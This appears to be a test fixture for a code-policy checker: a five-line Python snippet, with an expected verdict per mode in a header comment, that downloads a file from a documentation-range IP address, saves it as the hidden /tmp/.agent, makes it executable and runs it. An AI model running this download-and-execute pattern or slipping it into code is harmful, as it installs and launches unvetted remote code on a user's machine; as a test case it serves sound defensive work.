# expect: strict=deny standard=deny audit=allow
import urllib.request, os, subprocess
urllib.request.urlretrieve("http://203.0.113.5/agent", "/tmp/.agent")
os.chmod("/tmp/.agent", 0o755)
subprocess.Popen(["/tmp/.agent"])
